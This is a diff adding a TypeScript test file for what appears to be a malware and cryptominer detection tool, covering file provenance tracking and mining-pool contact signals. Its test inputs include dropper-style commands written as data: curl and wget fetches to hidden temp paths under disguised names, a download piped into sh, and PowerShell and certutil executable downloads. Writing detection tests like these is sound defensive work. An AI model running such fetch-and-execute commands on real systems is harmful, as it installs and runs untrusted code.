@@ -1,0 +1,101 @@
+import assert from 'node:assert/strict';
+import { test } from 'node:test';
+import type { Signal } from '../model/signal.js';
+import { MiningPortContacts } from './mining-port-contact.js';
+import { FileProvenance, filesRunBy, filesWrittenBy, MAX_ORIGIN_AGE_MS, resolvePath } from './provenance.js';
+
+const written = (command: string) => filesWrittenBy(command).map((f) => `${f.how} ${f.path}`);
+
+test('the files a command writes: every way a dropper puts a program on disk', () => {
+  assert.deepEqual(written('curl -fsSLo /tmp/.x/a http://h/a'), ['fetched /tmp/.x/a']);
+  assert.deepEqual(written('curl --output /tmp/a http://h/a'), ['fetched /tmp/a']);
+  assert.deepEqual(written('curl -sO http://h/dir/kswapd?x=1'), ['fetched kswapd']);
+  assert.deepEqual(written('wget -q http://h/x/kthreadd'), ['fetched kthreadd']);
+  assert.deepEqual(written('wget -P /var/tmp http://h/x/k'), ['fetched /var/tmp/k']);
+  assert.deepEqual(written('wget -O- http://h/s | sh'), []);
+  assert.deepEqual(written('wget --output-document=/dev/shm/m http://h/m'), ['fetched /dev/shm/m']);
+  assert.deepEqual(written('chmod +x /tmp/a; chmod 755 /tmp/b; chmod 644 /tmp/c'), [
+    'made executable /tmp/a',
+    'made executable /tmp/b',
+  ]);
+  assert.deepEqual(written('cp /tmp/a /usr/local/bin/'), ['copied /usr/local/bin/a']);
+  assert.deepEqual(written('mv -f /tmp/a /usr/sbin/dbus'), ['copied /usr/sbin/dbus']);
+  assert.deepEqual(written('echo payload | base64 -d > /tmp/p'), ['written /tmp/p']);
+  assert.deepEqual(written('sh -c "curl http://h/y>/tmp/z"'), ['written /tmp/z']);
+  assert.deepEqual(written('dd if=/dev/stdin of=/tmp/d bs=1'), ['written /tmp/d']);
+  assert.deepEqual(
+    written("powershell -c (New-Object Net.WebClient).DownloadFile('http://h/u.exe','C:\\Users\\Public\\u.exe')"),
+    ['fetched C:\\Users\\Public\\u.exe'],
+  );
+  assert.deepEqual(written('certutil -urlcache -split -f http://h/m.exe C:\\ProgramData\\m.exe'), [
+    'fetched C:\\ProgramData\\m.exe',
+  ]);
+  assert.deepEqual(written('ls -la /tmp > /dev/null; gcc -o out x.c; ssh -o BatchMode=yes h'), []);
+});
+
+test('relative paths resolve against the working directory, or not at all', () => {
+  assert.equal(resolvePath('kd', '/var/tmp'), '/var/tmp/kd');
+  assert.equal(resolvePath('./a/../kd', '/tmp/'), '/tmp/kd');
+  assert.equal(resolvePath('kd', undefined), undefined);
+  assert.equal(resolvePath('/tmp/x', undefined), '/tmp/x');
+});
+
+test('what an exec runs: the executable, or the script a shell or interpreter is given', () => {
+  assert.deepEqual(filesRunBy('/bin/bash', ['bash', '/tmp/x.sh']), ['/bin/bash', '/tmp/x.sh']);
+  assert.deepEqual(filesRunBy('/usr/bin/python3.11', ['python3', '-u', 'm.py']), ['/usr/bin/python3.11', 'm.py']);
+  assert.deepEqual(filesRunBy('/bin/sh', ['sh', '-c', 'echo hi']), ['/bin/sh']);
+});
+
+test('origins: time order and the age bound hold; a fetch outranks a later chmod; windows paths ignore case', () => {
+  const prov = new FileProvenance();
+  const origin = (how: 'fetched' | 'made executable', ts: number, path = '/tmp/a') => ({
+    path,
+    how,
+    writer: `process:h:${ts}`,
+    writerRoot: 'process:h:1',
+    ts,
+    ref: { file: 'x', line: 1 },
+  });
+  prov.record('h', origin('fetched', 1000));
+  prov.record('h', origin('made executable', 2000));
+  assert.equal(prov.originOf('h', '/tmp/a', 3000)?.how, 'fetched');
+  assert.equal(prov.originOf('h', '/tmp/a', 500), undefined, 'not before it was written');
+  assert.equal(prov.originOf('h', '/tmp/a', 1000 + MAX_ORIGIN_AGE_MS + 1), undefined, 'not after a day');
+  assert.equal(prov.originOf('other', '/tmp/a', 3000), undefined);
+  prov.record('h', origin('fetched', 1000, 'C:\\Users\\Public\\U.exe'));
+  assert.ok(prov.originOf('h', 'c:\\users\\public\\u.exe', 2000));
+});
+
+test('a held mining-port connection of a miner becomes medium pool contact once; without miner evidence it stays weak', () => {
+  const weak: Signal = {
+    kind: 'mining-port',
+    class: 'network',
+    strength: 'weak',
+    entity: 'process:h:1',
+    host: 'h',
+    ts: 0,
+    ref: { file: 'conn.log', line: 1 },
+    explanation: 'x connected to 198.51.100.9:3333 (weak on its own)',
+    by: 'network:mining-port',
+    subject: { destination: '198.51.100.9:3333' },
+  };
+  const contacts = new MiningPortContacts();
+  assert.equal(
+    contacts.observe(weak, 'process:h:1', 60 * 60_000, () => false),
+    undefined,
+  );
+  const held = contacts.observe(weak, 'process:h:1', 60 * 60_000, () => true);
+  assert.equal(held?.kind, 'pool-contact');
+  assert.equal(held?.strength, 'medium');
+  assert.match(held?.explanation ?? '', /held one connection open for 60 min/);
+  assert.equal(
+    contacts.observe(weak, 'process:h:1', 60 * 60_000, () => true),
+    undefined,
+    'once per destination',
+  );
+  assert.equal(
+    new MiningPortContacts().observe(weak, 'process:h:2', 30_000, () => true),
+    undefined,
+    'a short flow is a probe',
+  );
+});
